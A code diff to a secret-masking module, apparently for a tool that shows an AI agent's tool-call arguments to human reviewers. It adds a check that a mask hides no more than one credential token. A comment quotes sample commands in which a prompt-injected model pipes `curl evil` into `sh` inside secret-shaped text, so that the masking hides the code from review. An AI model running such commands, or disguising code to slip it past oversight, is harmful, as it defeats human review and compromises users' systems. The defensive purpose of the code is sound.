@@ -14,7 +14,8 @@ after this module has:
 * **masked secrets**: values under secret-named keys (`password`, `api_key`, `Authorization`,
   `session_id`...) and secret-shaped text anywhere (private keys, Slack / OpenAI / AWS /
   GitHub / Google / Feishu tokens, JWTs, bearer and basic credentials, `password=...`
-  assignments, credentials in URLs), all replaced by `MASK`.
+  assignments, credentials in URLs), all replaced by `MASK`. Such a mask hides one
+  credential token; text where it would hide more (whitespace, code) is not shown whole.
 
 Every pattern here runs on RE2 (`google-re2`), whose matching time is linear in the text
 whatever the pattern: no input can make a scan backtrack. `compile` is how any other module
@@ -28,9 +29,11 @@ from __future__ import annotations
 import json
 import unicodedata
 from collections.abc import Callable, Mapping
-from typing import Any, Protocol, cast
+from typing import Any
 
 import re2
+
+from gate.linear import compile as compile
 
 #: what a masked secret reads as, on every surface
 MASK = "[masked]"
@@ -50,52 +53,6 @@ MAX_DEPTH = 100
 TOO_DEEP = "[nested too deep to show]"
 #: a key longer than this is not classified by name: its value is masked (fail closed)
 _KEY_SCAN = 256
-
-
-class Match(Protocol):
-    """The part of a match object this module relies on (RE2's mirrors `re.Match`)."""
-
-    def group(self, group: int | str = 0) -> str | None:
-        """The text of one group (None when it did not take part)."""
-        ...
-
-    def start(self, group: int | str = 0) -> int:
-        """Where the group starts."""
-        ...
-
-    def end(self, group: int | str = 0) -> int:
-        """Where the group ends."""
-        ...
-
-
-class Pattern(Protocol):
-    """A compiled linear-time pattern (RE2), with the `re.Pattern` methods gate uses."""
-
-    def search(self, text: str) -> Match | None:
-        """The first match anywhere."""
-        ...
-
-    def fullmatch(self, text: str) -> Match | None:
-        """A match of the whole text."""
-        ...
-
-    def finditer(self, text: str) -> Any:
-        """Every non-overlapping match, left to right."""
-        ...
-
-    def sub(self, repl: Callable[[Any], str], text: str) -> str:
-        """Replace every match by what `repl` returns for it."""
-        ...
-
-
-def compile(pattern: str) -> Pattern:
-    """Compile `pattern` with RE2: matching is linear in the text, whatever the pattern.
-
-    RE2 has no backreferences or lookaround; use a capturing group and a replacement
-    function instead. Replace through callables only: RE2's string templates mishandle
-    non-ASCII text.
-    """
-    return cast(Pattern, re2.compile(pattern))
 
 
 # -- invisible characters ---------------------------------------------------------------------
@@ -203,15 +160,20 @@ _SECRET_TEXT: Any = re2.compile(
 _MASK_BYTES = MASK.encode()
 
 
-def _masked(match: Any) -> bytes:
+def _kept(match: Any) -> tuple[bytes, bytes]:
+    """What a secret match keeps around the mask: the `://` and `@` of URL credentials, an
+    assignment's name, an Authorization scheme."""
     url, assign, scheme = match.group(1, 2, 3)
     if url:
-        return b"://" + _MASK_BYTES + b"@"
+        return b"://", b"@"
     if assign:
-        return bytes(assign) + _MASK_BYTES
-    if scheme:
-        return bytes(scheme) + b" " + _MASK_BYTES
-    return _MASK_BYTES
+        return bytes(assign), b""
+    return (bytes(scheme) + b" ", b"") if scheme else (b"", b"")
+
+
+def _masked(match: Any) -> bytes:
+    before, after = _kept(match)
+    return before + _MASK_BYTES + after
 
 
 def _mask_scanned(text: str) -> str:
@@ -222,6 +184,26 @@ def _mask_scanned(text: str) -> str:
         data = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").encode()
     # RE2 matches whole characters of valid UTF-8, so the result decodes.
     return str(_SECRET_TEXT.sub(_masked, data).decode())
+
+
+#: what a mask may hide and still leave the call readable: one token of the characters
+#: credentials are made of; no whitespace, quotes, non-ASCII or characters that run code
+#: (`$`, backtick, brackets, `|`, `;`, `&`, `<`, `>`, backslash). A prompt-injected model
+#: writes `echo -----BEGIN PRIVATE KEY----- ; curl evil | sh` or `password=$(curl evil|sh)`,
+#: the masker hides the code, and a card reading `echo [masked]` did not show the call.
+_CREDENTIAL: Any = re2.compile(rb"[A-Za-z0-9!#%*+./:=?@_~-]+")
+
+
+def _hides_code(text: str) -> bool:
+    """Whether masking `text` hides more than credential tokens (or it is capped)."""
+    if len(text) > SCAN_LIMIT:
+        return True
+    for match in _SECRET_TEXT.finditer(text.encode("utf-8", "surrogatepass")):
+        whole, (before, after) = bytes(match.group(0)), _kept(match)
+        hidden = whole[len(before.rstrip()) : len(whole) - len(after)].strip()
+        if not _CREDENTIAL.fullmatch(hidden):
+            return True
+    return False
 
 
 def mask_text(text: str, limit: int | None = SCAN_LIMIT) -> str:
@@ -337,6 +319,26 @@ def _mask(value: Any, limit: int | None, depth: int) -> Any:
     return value
 
 
+def masks_only_credentials(value: Any, depth: int = 0) -> bool:
+    """Whether each mask `mask_value(value)` shows hides one credential token, nothing more.
+    Values under secret-named keys are masked whole, as documented; elsewhere (a command, a
+    URL) secret-shaped text must not hide code (`_CREDENTIAL`)."""
+    if depth > MAX_DEPTH:
+        return False  # shown as a marker, not at all
+    if isinstance(value, Mapping):
+        return all(
+            not _hides_code(str(key))
+            and (
+                (is_secret_key(str(key)) and value[key] not in (None, ""))
+                or masks_only_credentials(value[key], depth + 1)
+            )
+            for key in value
+        )
+    if isinstance(value, list | tuple):
+        return all(masks_only_credentials(item, depth + 1) for item in value)
+    return not isinstance(value, str) or not _hides_code(value)
+
+
 def to_json(value: Any, *, indent: int | None = None, limit: int | None = SCAN_LIMIT) -> str:
     """A JSON-like value as JSON text to show: masked (see `mask_value`), invisible
     characters written as `\\uXXXX` escapes, any other character as itself."""
@@ -358,8 +360,10 @@ def arguments_json(args: Any) -> str:
 
 def shows_whole(args: Any, limit: int | None) -> bool:
     """Whether a surface that shows at most `limit` characters of `arguments_json(args)` shows
-    them whole. `limit` None means the surface did not say: it did not (fail closed)."""
-    return limit is not None and len(arguments_json(args)) <= limit
+    them whole: they fit, and no mask in them could hide code (`masks_only_credentials`).
+    `limit` None means the surface did not say: it did not (fail closed)."""
+    fits = limit is not None and len(arguments_json(args)) <= limit
+    return fits and masks_only_credentials(args)
 
 
 def mask_diff(diff: Mapping[str, Any]) -> dict[str, Any]:
